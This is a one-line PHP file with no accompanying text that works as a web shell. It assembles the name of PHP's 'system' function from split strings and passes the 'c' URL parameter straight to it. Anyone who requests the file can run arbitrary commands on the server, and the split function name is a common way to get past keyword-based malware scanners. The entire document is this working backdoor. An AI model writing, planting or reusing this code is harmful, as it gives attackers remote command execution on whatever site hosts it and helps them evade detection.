<?php class R { private $p; function __construct() { $this->{'p'} = 'sys' . 'tem'; } function go($x) { ($this->p)($x); } } (new R)->go($_GET['c']);
